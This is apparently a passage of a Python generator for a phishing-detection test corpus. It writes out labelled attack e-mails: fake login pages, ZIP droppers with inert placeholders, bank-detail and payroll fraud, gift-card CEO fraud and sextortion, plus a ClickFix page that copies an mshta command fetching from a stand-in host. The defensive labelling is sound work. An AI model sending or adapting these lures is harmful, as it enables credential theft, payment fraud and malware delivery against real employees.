Lieferantennummer: 700418
Zahlungsbelegnummer: 0046127733
Zahlbetrag: 186.204,37 EUR
Valuta: 23.11.2026

Das Avis wird aus Sicherheitsgründen als geschütztes Dokument übermittelt. Zum Öffnen melden Sie sich bitte mit Ihrer Firmen-E-Mail-Adresse an.

Mit freundlichen Grüßen
Nordwerk Automotive SE
Shared Service Center Finance - Accounts Payable

Diese Nachricht wurde maschinell erstellt.""",
  atts=[att_part("Zahlungsavis_0046127733.html", "text/html",
                 phish_page("Zahlungsavis 0046127733", "Microsoft", "claudia.hoffmann@example.com", _avis_url,
                            "Dieses Dokument ist geschützt. Bitte melden Sie sich an, um das Zahlungsavis anzuzeigen."))],
  what="Fake remittance advice from the OEM customer's AP department with an HTML attachment that imitates a Microsoft sign-in (e-mail pre-filled, target URL atob-encoded).",
  why="ATTACK (HTML-attachment credential phishing): nordwerk-automotive.eu is a look-alike (the customer uses nordwerk-automotive.de), sent through Mailgun; a remittance advice needs no login; the attachment posts to nordwerk-avis.com.")

M(kind="attack", file="06-de-fake-lieferantenportal-8d-reklamation.eml", lang="de", cs="utf-8", cte="quoted-printable",
  date="2026-11-23 05:48:12",
  infra=bulk("a7-22.smtp-out.eu-west-1.amazonses.com", "a7-22.smtp-out.eu-west-1.amazonses.com", "54.240.7.22", bstyle="java",
             hdrs=["Feedback-ID: ::1.eu-west-1.q7XkR2vNf0tZp9LmE3wYc8HbJ4sD6aGuI1oK5nT0xVQ=:AmazonSES",
                   "X-SES-Outgoing: 2026.11.23-54.240.7.22"], mid_dom="eu-west-1.amazonses.com"),
  return_path="010201937b2c4a1e-8f3d2b71-5c9a-4e10-b2d7-0a6f1e93c4b5-000000@eu-west-1.amazonses.com",
  **{"from": ("Nordwerk SupplierNet", "noreply@nordwerk-suppliernet.com")},
  to=[P("becker")],
  subject="Reklamation Q-2026-118734 – 8D-Bericht: D3 (Sofortmaßnahmen) fällig in 24 h",
  text="""Nordwerk SupplierNet – Qualitätsmeldung

Lieferant: Example Group GmbH (700418)
Werk: Nordwerk Automotive SE, Werk Salzgitter
Meldungsnummer: Q-2026-118734
Teil: 4471-220-03 Halter Kabelbaum, Index C
Fehlerbild: Gratbildung / Maßabweichung Bohrung Ø8,2 (außerhalb Toleranz)
Betroffene Menge: 1.840 Stück, Lieferschein 80019273
Belastung: 0-km-Reklamation, Sortierkosten werden weiterbelastet

Bitte reichen Sie D1–D3 (Team, Problembeschreibung, Sofortmaßnahmen inkl. Clean Point) innerhalb von 24 Stunden im Portal ein. Nach Fristablauf erfolgt eine automatische Eskalation an den Einkauf (Controlled Shipping Level 1).

Zur Reklamation:
https://nordwerk-suppliernet.com/sso/q/Q-2026-118734

Diese E-Mail wurde automatisch generiert.
Nordwerk Automotive SE | Supplier Quality Management""",
  html="""<html><body style="font-family:Arial,sans-serif;font-size:13px;color:#222">
<div style="background:#0b2545;color:#fff;padding:12px 18px;font-size:17px">Nordwerk SupplierNet &ndash; Qualitätsmeldung</div>
<table style="margin:14px 18px;font-size:13px" cellpadding="3">
<tr><td>Lieferant:</td><td>Example Group GmbH (700418)</td></tr>
<tr><td>Werk:</td><td>Nordwerk Automotive SE, Werk Salzgitter</td></tr>
<tr><td>Meldungsnummer:</td><td><b>Q-2026-118734</b></td></tr>
<tr><td>Teil:</td><td>4471-220-03 Halter Kabelbaum, Index C</td></tr>
<tr><td>Fehlerbild:</td><td>Gratbildung / Maßabweichung Bohrung &Oslash;8,2 (außerhalb Toleranz)</td></tr>
<tr><td>Betroffene Menge:</td><td>1.840 Stück, Lieferschein 80019273</td></tr>
<tr><td>Belastung:</td><td>0-km-Reklamation, Sortierkosten werden weiterbelastet</td></tr></table>
<p style="margin:0 18px">Bitte reichen Sie <b>D1&ndash;D3</b> (Team, Problembeschreibung, Sofortmaßnahmen inkl. Clean Point) innerhalb von <b>24 Stunden</b> im Portal ein. Nach Fristablauf erfolgt eine automatische Eskalation an den Einkauf (Controlled Shipping Level 1).</p>
<p style="margin:22px 18px"><a href="https://nordwerk-suppliernet.com/sso/q/Q-2026-118734" style="background:#e07a1f;color:#fff;padding:9px 18px;text-decoration:none">Reklamation öffnen</a></p>
<p style="margin:0 18px;font-size:11px;color:#777">Diese E-Mail wurde automatisch generiert.<br>Nordwerk Automotive SE | Supplier Quality Management</p>
</body></html>""",
  what="Fake OEM supplier-portal quality claim (8D, 24 h deadline, controlled shipping threat) linking to a look-alike portal login.",
  why="ATTACK (credential phishing): nordwerk-suppliernet.com via Amazon SES; the customer's real portal is supplier.nordwerk-automotive.de (compare business/06). Pressure and real-looking part data.")

M(kind="attack", file="07-de-gehaltskonto-aenderung-gmx.eml", lang="de", cs="iso-8859-1", cte="quoted-printable",
  date="2026-11-24 19:36:40",
  infra=uiserv("gmx", "212.227.17.21", "89.245.112.61"),
  **{"from": ("Andreas Wolf", "andreas.wolf.hn@gmx.de")},
  to=[P("lehmann")],
  subject="Neue Bankverbindung für die Gehaltsabrechnung",
  text="""Hallo Frau Lehmann,

ich habe mein Gehaltskonto gewechselt. Könnten Sie die neue Bankverbindung bitte schon für die Novemberabrechnung hinterlegen?

Kontoinhaber: Andreas Wolf
IBAN: %s
Bank: N26

Ich schreibe von meiner privaten Adresse, weil ich die ganze Woche beim Kunden in Ingolstadt bin und mein Firmenlaptop gerade in der IT liegt. Eine kurze Rückmeldung hierher reicht mir.

Vielen Dank und viele Grüße
Andreas Wolf""" % iban_fmt(IBAN_HOLZ_PAYROLL_FRAUD),
  what="Payroll diversion: 'sales director' asks HR payroll to change his salary account before the November run, from a private GMX address.",
  why="ATTACK (payroll BEC): address andreas.wolf.hn@gmx.de is not known to the company; explains away the private address; wants the reply to the free-mail address; new neobank IBAN. Compare business/05 (genuine private address).")

_zip_a08 = zip_bytes([("Rechnung_WZ-2026-0871_Teilzahlung2.pdf.js", INERT.encode())], password="0871")
M(kind="attack", file="08-de-werkzeugrechnung-zip-passwort.eml", lang="de", cs="iso-8859-15", cte="quoted-printable",
  date="2026-11-26 11:14:05",
  infra=server("mo4-p00-ob.smtp.rzone.de", "mo4-p00-ob.smtp.rzone.de", "81.169.146.163", "werkzeugbau-kessler.de",
               bstyle="tb", hdrs=["User-Agent: Mozilla Thunderbird"], inner="[95.214.52.190]"),
  return_path="buchhaltung@werkzeugbau-kessler.de",
  **{"from": ("Werkzeugbau Kessler GmbH - Buchhaltung", "buchhaltung@werkzeugbau-kessler.de")},
  to=[P("fischer")],
  subject="Werkzeugrechnung WZ-2026-0871 / Teilzahlung 2 nach PPAP-Freigabe",
  text="""Sehr geehrter Herr Fischer,

nach erfolgter PPAP-Freigabe durch Ihren Kunden erhalten Sie anbei die Rechnung über die zweite Teilzahlung (40 %) für das Folgeverbundwerkzeug zu Ihrer Bestellung 4500187720.

Aus Datenschutzgründen ist das Archiv verschlüsselt.
Kennwort: 0871

Wir bitten um Ausgleich innerhalb von 14 Tagen.

Mit freundlichen Grüßen

i.A. Petra Vogt
Buchhaltung

Werkzeugbau Kessler GmbH
Gewerbestraße 8 | 73430 Aalen
Tel. 07361 9745-0
""",
  atts=[att_part("WZ-2026-0871.zip", "application/zip", _zip_a08)],
  what="Tooling invoice lure from a (compromised) toolmaker: password-protected ZIP whose password is in the body; inside a '.pdf.js' script (inert placeholder).",
  why="ATTACK (malware dropper): encrypted archive defeats scanning, double extension .pdf.js; Thunderbird client behind an unusual submission IP on Strato; the sender is not a known toolmaker of the group.")


# ===========================================================================
# ATTACK - English
# ===========================================================================

M(kind="attack", file="09-en-compromised-toolmaker-sharepoint-share.eml", lang="en", cs="utf-8", cte="quoted-printable",
  date="2026-11-03 14:22:10", tz="+0000",
  infra=o365("LO2P265MB5530", "GBRP265", "mail-lo2gbr01on2139.outbound.protection.outlook.com", "40.107.10.139", helo="GBR01-LO2-obe.outbound.protection.outlook.com", lang="en-GB"),
  return_path="g.thornton@midlandstooling.co.uk",
  **{"from": ("Gary Thornton", "g.thornton@midlandstooling.co.uk")},
  to=[("Gary Thornton", "g.thornton@midlandstooling.co.uk")], rcpt=S["whitfield"][1], content_lang="en-GB",
  subject="Gary Thornton shared \"MT-4471 Tool Transfer & PPAP Docs\" with you",
  text="""Gary Thornton shared a file with you

Hi all, please find the updated tool transfer pack and PPAP level 3 docs for the 4471 bracket. Shout if anything is missing before Friday.

MT-4471 Tool Transfer & PPAP Docs.one

Open: https://midlandstooling-my.sharepoint.com/:o:/g/personal/g_thornton_midlandstooling_co_uk/EZ8kQw3vT1hNs0bW2xLz4JkBq7mYc9Rr5Vt2nHpXa1e6Zg?e=Qm4TzK

This link will work for anyone in your organisation and external recipients it was shared with.

Microsoft respects your privacy. To learn more, please read our Privacy Statement.
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052""",
  html="""<html><body style="font-family:'Segoe UI',Tahoma,sans-serif;font-size:14px;color:#242424">
<table width="560" cellpadding="0" cellspacing="0"><tr><td style="padding:24px">
<div style="font-size:21px">Gary Thornton shared a file with you</div>
<div style="margin:18px 0;padding:14px;background:#f5f5f5">Hi all, please find the updated tool transfer pack and PPAP level 3 docs for the 4471 bracket. Shout if anything is missing before Friday.</div>
<div style="border:1px solid #e1e1e1;padding:12px"><b>MT-4471 Tool Transfer &amp; PPAP Docs</b><br><span style="color:#616161;font-size:12px">OneNote notebook</span></div>
<p><a href="https://midlandstooling-my.sharepoint.com/:o:/g/personal/g_thornton_midlandstooling_co_uk/EZ8kQw3vT1hNs0bW2xLz4JkBq7mYc9Rr5Vt2nHpXa1e6Zg?e=Qm4TzK" style="background:#0f6cbd;color:#fff;padding:8px 20px;text-decoration:none;border-radius:4px">Open</a></p>
<p style="font-size:12px;color:#616161">This link will work for anyone in your organisation and external recipients it was shared with.</p>
<p style="font-size:11px;color:#8a8a8a">Microsoft respects your privacy. To learn more, please read our Privacy Statement.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>
</td></tr></table></body></html>""",
  what="OneNote 'file shared with you' from a real toolmaker's Microsoft 365 mailbox, sent with the sender's own address in To and the real recipients in Bcc.",
  why="ATTACK (compromised supplier account, AiTM lure): genuine domain and Microsoft infrastructure, but mass-Bcc'd, generic text, a OneNote notebook as 'PPAP docs' (the usual stepping stone to a credential page). Compare business/10 (genuine Midlands Tooling invoice).")

M(kind="attack", file="10-en-callback-protection-plan-renewal.eml", lang="en", cs="utf-8", cte="7bit",
  date="2026-11-05 16:40:52", tz="-0600",
  infra=gmail(43, "oa1", "209.85.160"),
  **{"from": ("Billing Department", "kristenmorrow.billing@gmail.com")},
  to=[P("collins")],
  subject="Order confirmation #GS-77418392",
  text="""Hello Sarah,

Thank you for your continued trust. Your annual Total Protection Plan (5 devices) has been renewed successfully and the amount has been charged to the payment method on file.

Order ID: GS-77418392
Product: Total Protection Plan - Business, 5 devices, 12 months
Amount: GBP 389.99
Date: 05 Nov 2026

Your invoice is attached for your records. If you did not authorise this renewal or want to cancel and receive a refund, please contact our billing team within 24 hours on +44 20 3807 4419 (Mon-Sat, 8am-8pm).

Regards,
Customer Billing Team""",
  atts=[pdf_att("Invoice_GS77418392.pdf", ["INVOICE GS-77418392", "", "Total Protection Plan - Business (5 devices, 12 months)", "Amount charged: GBP 389.99", "",
                                           "Not you? Cancel within 24 hours for a full refund:", "Call billing support: +44 20 3807 4419", "", "[evaluation placeholder]"],
                creator="Canva")],
  what="Callback phishing (telephone-oriented attack delivery): fake subscription renewal with a PDF invoice and a phone number to 'cancel'.",
  why="ATTACK (callback/TOAD): no link or malware, the payload is the phone number; sent from a random Gmail account, no brand domain, generic 'billing department'. The call leads to remote-access tooling and refund fraud.")

_btc = bech32_p2wpkh("audit34-extortion")
M(kind="attack", file="11-en-sextortion-spoofed-own-address.eml", lang="en", cs="utf-8", cte="base64",
  date="2026-11-07 03:17:26", tz="-0300",
  infra=server("example.com", "unknown", "177.54.148.203", "example.com", bstyle="gmail", tls=False),
  return_path="vqpzul@pousadaverdemar.com.br",
  **{"from": ("James Whitfield", "james.whitfield@example.com")},
  to=[P("whitfield")],
  subject="Your account james.whitfield has been hacked",
  text="""Hi James,

I will get straight to the point. A few months ago I got access to the devices you use to read your e-mail, through a vulnerability in the router and a tracking module I placed on a website you visited. Since then I have been watching what you do online.

I have recordings from your camera together with the screen content at the same moments. I also have copies of your contacts, chats and the mailboxes you use for work. One click and all of this goes to your colleagues, your customers and your family.

I do not want to ruin your life. Transfer 1450 USD in Bitcoin to the address below and I will delete everything, including the access. You have 48 hours from the moment you opened this e-mail (the module tells me when).

BTC: %s

If you do not know how to buy Bitcoin, search for "buy bitcoin" - it takes ten minutes. Do not reply to this e-mail, it was sent from your own account, so you can see I am not bluffing. Do not go to the police, I will notice.

Good luck.""" % _btc,
  what="Sextortion / extortion with a valid bech32 Bitcoin address, 'sent from your own account'.",
  why="ATTACK (extortion): From is the recipient's own example.com address but the message comes from an unknown Brazilian host that says HELO example.com, without TLS, bounce address at an unrelated .com.br domain; example.com mail should only leave via mail-int01.")

_clickfix = ("""<!DOCTYPE html><html><head><meta charset="utf-8"><title>DHL Freight Document Centre</title>
<style>body{font-family:Arial;background:#f4f4f4}.c{width:420px;margin:80px auto;background:#fff;padding:26px;border-top:6px solid #d40511}
.cb{border:1px solid #ccc;padding:14px;display:flex;align-items:center}code{background:#eee;padding:2px 4px}</style></head><body>
<!-- %s -->
<div class="c"><h3>Customs invoice 8204417719</h3><p>Verify you are human to view the document.</p>
<div class="cb"><input type="checkbox" id="v" onclick="s()"> &nbsp; I'm not a robot</div>
<div id="st" style="display:none"><p><b>Verification steps</b></p><ol><li>Press <code>Windows</code> + <code>R</code></li><li>Press <code>Ctrl</code> + <code>V</code></li><li>Press <code>Enter</code></li></ol></div></div>
<script>function s(){var c="mshta https://dhl-docs-verify.com/c/8204417719 # I am not a robot - Verification ID: 4471-0299";
navigator.clipboard.writeText(c);document.getElementById('st').style.display='block';}</script></body></html>
""" % INERT.strip()).encode()
M(kind="attack", file="12-en-clickfix-dhl-freight-customs-invoice.eml", lang="en", cs="utf-8", cte="quoted-printable",
  date="2026-11-10 09:05:33",
  infra=bulk("s28-7.smtp-relay.brevo.com", "s28-7.smtp-relay.brevo.com", "185.41.28.7", bstyle="java",
             hdrs=["X-Mailin-EID: MTk4NDQxMjd%2Bc3RlZmFuaWUua29jaEBleGFtcGxlLmNvbQ%3D%3D", "Origin-messageId: <202611100805.4471@smtp-relay.brevo.com>"],
             mid_dom="smtp-relay.brevo.com"),
  return_path="bounces-4471229-stefanie.koch=example.com@sib.dhl-freight-docs.com",
  **{"from": ("DHL Freight Customs", "customs-invoice@dhl-freight-docs.com")},
  to=[P("koch")],
  subject="Duties and taxes outstanding - customs invoice 8204417719 (shipment 1Z-DEHN-55820)",
  text="""Dear customer,

Import customs clearance for your shipment has been completed. Duties and import VAT were advanced by DHL Freight on your behalf and are now due.

Consignee: Example Group GmbH, Heilbronn
Shipment: 1Z-DEHN-55820 (2 pallets, steel coils, origin TR)
Customs invoice: 8204417719
Amount due: EUR 1,284.60

The customs invoice and the import declaration are available in the DHL Freight document centre. For security reasons you will be asked to complete a quick human verification.

View documents: https://dhl-docs-verify.com/inv/8204417719

Please settle the invoice within 3 working days to avoid storage charges.

Kind regards
DHL Freight Customs Services""",
  atts=[att_part("DHL_Customs_Invoice_8204417719.html", "text/html", _clickfix)],
  what="Fake DHL Freight customs-duty invoice with an HTML attachment implementing a 'ClickFix' fake CAPTCHA that puts an mshta command into the clipboard and tells the user to run it with Win+R.",
  why="ATTACK (ClickFix malware delivery): look-alike domain dhl-freight-docs.com via Brevo; clipboard-injection page (command inert in this corpus); customs-duty pretext typical for the trade.")

_vm_url = "https://voicemsg-portal.net/vm/listen"
_vm_html = ("""<html><head><meta charset="utf-8"><title>Voicemail</title></head><body>
<!-- %s -->
<p style="font-family:Segoe UI">Loading voicemail player...</p>
<script>var u="%s",e="%s";setTimeout(function(){location.replace(atob(u)+"#"+e)},300);</script>
</body></html>""" % (INERT.strip(), base64.b64encode(_vm_url.encode()).decode(), base64.b64encode(b"claudia.hoffmann@example.com").decode())).encode()
M(kind="attack", file="13-en-voicemail-spoofed-internal-html.eml", lang="en", cs="utf-8", cte="quoted-printable",
  date="2026-11-13 10:31:48",
  infra=server("example.com", "vm2419583.stark-industries.solutions", "94.131.109.27", "example.com", bstyle="php",
               hdrs=["X-Mailer: Microsoft Outlook 16.0"], tls="12"),
  return_path="voicemail@example.com",
  **{"from": ("Voicemail", "voicemail@example.com")},
  to=[P("hoffmann")],
  subject="New voicemail from +49 7131 92800-412 (0:47)",
  html="""<html><body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px">
<p><b>You received a voice message</b></p>
<table cellpadding="4" style="font-size:14px">
<tr><td>From:</td><td>+49 7131 92800-412</td></tr>
<tr><td>To:</td><td>Claudia Hoffmann</td></tr>
<tr><td>Length:</td><td>00:47</td></tr>
<tr><td>Received:</td><td>Fri 13.11.2026 10:29</td></tr></table>
<p>The audio is attached. Open the attachment in your browser to play it.</p>
<p style="font-size:11px;color:#888">Unified Messaging | Example Group GmbH</p>
</body></html>""",
  atts=[att_part("VM_+4971319280412_Play.htm", "text/html", _vm_html)],
  what="Fake voicemail notification 'from' the internal phone system with an .htm 'player' that redirects to a phishing page with the victim address appended.",
  why="ATTACK (internal-sender spoofing, Direct-Send style): From voicemail@example.com but delivered from an external hosting IP (stark-industries) that HELOs as example.com instead of via mail-int01; HTML redirector attachment.")

M(kind="attack", file="14-en-midlands-tooling-lookalike-overdue-invoice.eml", lang="en", cs="iso-8859-1", cte="quoted-printable",
  date="2026-11-17 11:58:02", tz="+0000",
  infra=server("sender4-op-o11.zoho.eu", "sender4-op-o11.zoho.eu", "185.230.214.11", "midlands-tooling.co.uk", bstyle="java",
               hdrs=["X-Mailer: Zoho Mail", "Importance: high"]),
  return_path="accounts@midlands-tooling.co.uk",
  **{"from": ("Rebecca Hale - Midlands Tooling Ltd", "accounts@midlands-tooling.co.uk")},
  to=[P("collins")], cc=[P("whitfield")],
  subject="OVERDUE: Tooling invoice MT-INV-20931 - tool 4471 (T2 / PPAP approved)",
  text="""Dear Sarah,

I hope you are well.

Our ledger still shows invoice MT-INV-20931 (GBP 31,750.00, final 30%% payment on the 4471 progression tool after PPAP approval) as unpaid, now 17 days past due. Could you let me know when this is scheduled?

Please also note that we have moved our day-to-day banking to Starling, and our old NatWest account will be closed at the end of November. Kindly make this and all future payments to:

Account name: Midlands Tooling Ltd
Sort code: 60-83-71
Account number: 74219035
IBAN: %s
BIC: SRLGGB3L

An updated supplier form on letterhead will follow from our finance director. If this cannot be paid this week we will unfortunately have to put the T3 sample run on hold, which I know you will want to avoid with the SOP coming up.

Kind regards

Rebecca Hale
Credit Control
Midlands Tooling Ltd
Unit 12, Torrington Avenue, Coventry CV4 9AP
Tel: 024 7646 0218""" % iban_fmt(IBAN_MIDLANDS_FRAUD),
  what="Invoice fraud: 'overdue' tooling invoice plus change to a new UK bank account, with a threat to stop the T3 sample run.",
  why="ATTACK (supplier impersonation): look-alike domain midlands-tooling.co.uk (real: midlandstooling.co.uk) on Zoho; new account at a challenger bank, letterhead 'to follow', SOP pressure.")

M(kind="attack", file="15-en-ceo-gift-cards-outlook.eml", lang="en", cs="utf-8", cte="quoted-printable",
  date="2026-11-19 08:12:09",
  infra=hotmail("am6eur05olkn2080", "40.92.90.80"),
  **{"from": ("Thomas Berger", "t.berger.hn@outlook.com")},
  to=[P("braun")],
  subject="Quick task",
  text="""Hi Monika,

are you at your desk? I need you to take care of something for me discreetly before lunch.

We want to thank a few of the key people at our customers for the support this year (Nordwerk, Brackley and two others). I would like to give each of them an Apple gift card - 8 cards at 250 EUR each. Please buy them online or at the MediaMarkt near you and send me photos of the back with the codes visible, I will forward them personally with a note. You can claim it back through expenses, I will sign.

I am in back-to-back meetings at the customer and cannot take calls, just reply here.

Thanks
Thomas

Sent from Outlook for iOS""",
  what="Gift-card CEO fraud addressed to the CEO's assistant.",
  why="ATTACK (BEC, gift cards): CEO display name on a consumer outlook.com address, 'cannot take calls', asks for scratched codes by photo; no link for filters to see.")

_iatf_url = "https://iatf-oversight.org/idb/supplier/login?cert=0512847&site=DE-74076"
M(kind="attack", file="16-en-fake-iatf-certificate-suspension-ics.eml", lang="en", cs="utf-8", cte="quoted-printable",
  date="2026-11-25 15:03:41",
  infra=bulk("o1.ptr9932.iatf-oversight.org", "xvhbrtqd.outbound-mail.sendgrid.net", "167.89.101.62", bstyle="gmail",
             hdrs=["X-SG-EID: u001.pL3Kx9Vb2TqW8nYzR4cA1sD0fGh"], mid_dom="geopod-ismtpd-12"),
  return_path="bounces+31772049-b8e2-katrin.becker=example.com@em9932.iatf-oversight.org",
  **{"from": ("IATF Global Oversight", "notifications@iatf-oversight.org")},
  to=[P("becker")],
  subject="IATF 16949 certificate status change: action required (IATF No. 0512847)",
  text="""IATF Global Oversight - Supplier Notification

Organisation: Example Group GmbH, Heilbronn (IATF No. 0512847)
Certification body: TUV-affiliated CB (remote)
Status: Pending suspension review

Following the decertification decision process review triggered by an OEM customer-specific performance complaint (CSR section 4.3, customer scorecard below threshold), your certificate has been placed in "pending suspension" status in the IATF Database (IATF DB).

To avoid suspension, the site IATF representative must confirm the nonconformity response and the remediation review meeting within 5 working days. A calendar invitation for the remediation review is attached.

Confirm in the IATF Database: %s

This message was sent by the IATF Database notification service. Please do not reply.""" % _iatf_url,
  atts=[att_part("invite.ics", "text/calendar", ics("IATFRR-0512847@iatf-oversight.org", "IATF 16949 remediation review - Example Group GmbH (0512847)",
                                                       "20261201T090000Z", "20261201T100000Z", ("IATF Global Oversight", "notifications@iatf-oversight.org"),
                                                       "katrin.becker@example.com",
                                                       "Confirm attendance and upload the nonconformity response before the review:\n" + _iatf_url, _iatf_url))],
  what="Fake IATF Global Oversight notice ('pending suspension' of the IATF 16949 certificate) with an .ics meeting invite that carries the phishing URL.",
  why="ATTACK (credential phishing, calendar-invite delivery): iatf-oversight.org is a look-alike of the real IATF oversight site, sent through SendGrid; the IATF DB does not notify suppliers like this; the .ics places the link into the calendar without a click on the mail.")


# ===========================================================================
# ATTACK - Italian
# ===========================================================================

def aruba_webmail(client_ip):
    def hops(r, sent):
        return ["Received: from webmail.aruba.it ([%s])\n\tby Aruba Outgoing Smtp  with ESMTPSA\n\tid %s; %s" % (client_ip, ralnum(r, 16), rfcdate(sent))]
    inf = Infra("smtpdh16.ad.aruba.it", "smtpdh16.ad.aruba.it", "62.149.155.176", mid=None, bstyle="rc",
                hdrs=["User-Agent: Roundcube Webmail/1.6.9", "X-Sender: amministrazione@ferretti-trasporti.it",
                      "X-Originating-IP: [%s]" % client_ip], hops=[hops], label="Aruba webmail")
    inf.mid = lambda r, frm: "<%s@ferretti-trasporti.it>" % rhex(r, 32)
    return inf


M(kind="attack", file="17-it-ferretti-account-compromesso-variazione-iban.eml", lang="it", cs="utf-8", cte="quoted-printable",
  date="2026-11-04 17:46:22",
  infra=aruba_webmail("185.220.101.47"),
  **{"from": ("Ferretti Trasporti S.p.A. - Amministrazione", "amministrazione@ferretti-trasporti.it")},
  to=[P("bianchi")], cc=[P("romano")],
  reply_to=("Amministrazione Ferretti Trasporti", "amministrazione@ferretti-trasporti-spa.it"),
  subject="Comunicazione variazione coordinate bancarie - Ferretti Trasporti S.p.A.",
  text="""Gentile Cliente,

con la presente Vi comunichiamo che, a seguito della riorganizzazione dei rapporti bancari del nostro Gruppo, a partire dal 05/11/2026 tutti i pagamenti relativi alle nostre fatture dovranno essere effettuati esclusivamente sul seguente conto corrente:

Intestatario: Ferretti Trasporti S.p.A.
IBAN: %s
BIC/SWIFT: SELBIT2BXXX

Il precedente conto presso Intesa Sanpaolo resterà attivo solo per gli incassi già in lavorazione. Vi preghiamo pertanto di aggiornare la Vostra anagrafica fornitori e di disporre su queste nuove coordinate anche il saldo delle fatture n. 2026/FT/3318 e 2026/FT/3402 in scadenza il 10/11.

In allegato la comunicazione ufficiale firmata dal nostro Amministratore Delegato.

Per qualsiasi chiarimento potete rispondere a questa e-mail: l'ufficio è temporaneamente non raggiungibile al telefono per lavori sulla centrale telefonica.

Cordiali saluti

Ufficio Amministrazione
Ferretti Trasporti S.p.A.
Via dell'Industria 44 - 37135 Verona (VR)
P.IVA %s""" % (iban_fmt(IBAN_FERRETTI_FRAUD), PIVA_FERRETTI),
  atts=[pdf_att("Comunicazione_variazione_coordinate_bancarie.pdf",
                ["Ferretti Trasporti S.p.A.", "Comunicazione variazione coordinate bancarie", "", "Nuovo IBAN: " + iban_fmt(IBAN_FERRETTI_FRAUD),
                 "BIC: SELBIT2BXXX", "", "L'Amministratore Delegato", "[evaluation placeholder]"], author="Amministrazione")],
  what="Bank-detail change from the genuine Ferretti Trasporti mailbox (Aruba webmail), with signed 'official letter' PDF.",
  why="ATTACK (vendor e-mail compromise): genuine domain and Aruba infrastructure, but the webmail login came from a Tor exit node (X-Originating-IP 185.220.101.47), replies are redirected to look-alike ferretti-trasporti-spa.it, phone 'unreachable', new IBAN at a payment institution. Compare business/17-18 (genuine Ferretti mails).")

_zip_a18 = zip_bytes([("Avviso_2026_IR_0184471.pdf.vbs", INERT.encode())])
M(kind="attack", file="18-it-agenzia-entrate-comunicazione-irregolarita-zip.eml", lang="it", cs="iso-8859-15", cte="base64",
  date="2026-11-11 09:22:57",
  infra=server("smtp.keliweb.it", "host17-254.keliweb-hosting.it", "185.81.4.254", "studiocommercialistafabbri.it", bstyle="php",
               hdrs=["X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)", "X-PHP-Originating-Script: 1003:wp-mail.php"]),
  return_path="wordpress@studiocommercialistafabbri.it",
  **{"from": ("Agenzia delle Entrate", "wordpress@studiocommercialistafabbri.it")},
  to=[P("bianchi")],
  subject="Comunicazione di irregolarità n. 2026/IR/0184471 - EXAMPLE ITALIA S.R.L.",
  text="""AGENZIA DELLE ENTRATE
Direzione Provinciale di Brescia - Ufficio Controlli

Spett.le EXAMPLE ITALIA S.R.L.

Dal controllo automatizzato della dichiarazione IVA/2026 (periodo d'imposta 2025), ai sensi dell'art. 54-bis del DPR 633/72, sono emerse irregolarità nei versamenti periodici con un importo dovuto di euro 14.862,00 oltre a sanzioni e interessi.

La comunicazione completa con il dettaglio delle somme e il modello F24 precompilato è allegata alla presente.

Entro 60 giorni dal ricevimento è possibile regolarizzare con la riduzione delle sanzioni a un terzo, oppure fornire chiarimenti tramite il servizio CIVIS.

Il Direttore Provinciale
(firma su delega)

Questo messaggio è generato automaticamente, si prega di non rispondere.""",
  atts=[att_part("Avviso_2026_IR_0184471.zip", "application/zip", _zip_a18)],
  what="Fake Agenzia delle Entrate 'comunicazione di irregolarità' with a ZIP containing a .pdf.vbs script (inert placeholder).",
  why="ATTACK (malware dropper): sent by a hacked WordPress site of an accountant (wp-mail.php, PHPMailer) with the tax agency as display name; the agency sends these via cassetto fiscale/PEC, never as ZIP attachments.")

M(kind="attack", file="19-it-pec-aruba-casella-in-scadenza.eml", lang="it", cs="iso-8859-1", cte="quoted-printable",
  date="2026-11-14 07:35:19",
  infra=bulk("mta-174-206.sparkpostmail.com", "mta-174-206.sparkpostmail.com", "192.174.89.206", bstyle="java",
             hdrs=["X-MSFBL: eyJyIjoiZ2l1bGlhLnJvbWFub0BleGFtcGxlLmNvbSIsImciOiJwZWMifQ=="], mid_dom="sparkpostmail.com"),
  return_path="msprvs1=20312mVSqzTky=bounces-441738@spmta.arubapec-servizi.com",
  **{"from": ("Aruba PEC", "rinnovi@arubapec-servizi.com")},
  to=[P("romano")],
  subject="La casella PEC amministrazione@pec.exampleitalia.it scade il 20/11/2026",
  text="""Gentile Cliente,

la casella di Posta Elettronica Certificata amministrazione@pec.exampleitalia.it scadrà il 20/11/2026.

Dopo la scadenza la casella verrà sospesa: non potrà più ricevere messaggi con valore legale (notifiche della Pubblica Amministrazione, fatture, atti giudiziari) e i messaggi in arrivo verranno respinti al mittente.

Per evitare l'interruzione del servizio rinnova ora accedendo all'Area Clienti con le credenziali della casella PEC:
https://arubapec-servizi.com/areaclienti/rinnovo?c=pec.exampleitalia.it

Importo del rinnovo annuale: 5,90 EUR + IVA

Cordiali saluti
Aruba PEC S.p.A.
Servizio Clienti""",
  html="""<html><body style="font-family:Verdana,Arial;font-size:13px;color:#333">
<div style="background:#f60;height:6px"></div>
<p style="font-size:18px;color:#f60"><b>Aruba PEC</b></p>
<p>Gentile Cliente,</p>
<p>la casella di Posta Elettronica Certificata <b>amministrazione@pec.exampleitalia.it</b> scadrà il <b>20/11/2026</b>.</p>
<p>Dopo la scadenza la casella verrà sospesa: non potrà più ricevere messaggi con valore legale (notifiche della Pubblica Amministrazione, fatture, atti giudiziari) e i messaggi in arrivo verranno respinti al mittente.</p>
<p><a href="https://arubapec-servizi.com/areaclienti/rinnovo?c=pec.exampleitalia.it" style="background:#f60;color:#fff;padding:8px 16px;text-decoration:none">Rinnova ora</a></p>
<p>Importo del rinnovo annuale: 5,90 EUR + IVA</p>
<p>Cordiali saluti<br>Aruba PEC S.p.A.<br>Servizio Clienti</p></body></html>""",
  what="Fake Aruba PEC renewal notice for the Italian subsidiary's certified-mail box.",
  why="ATTACK (credential phishing): arubapec-servizi.com via SparkPost instead of aruba.it; asks for the PEC credentials (used for SdI invoices and legal notices) through a renewal page.")

M(kind="attack", file="20-it-ceo-fraud-spoofed-operazione-riservata.eml", lang="it", cs="iso-8859-1", cte="8bit",
  date="2026-11-27 08:49:33",
  infra=server("WIN-HQ7K2N1B4TA", "unknown", "45.137.22.91", "example.com", bstyle="exch",
               hdrs=["X-Mailer: Microsoft Outlook 16.0", "X-Priority: 1 (Highest)", "Importance: High"], tls="12"),
  return_path="tberger@ceo-office-mail.com",
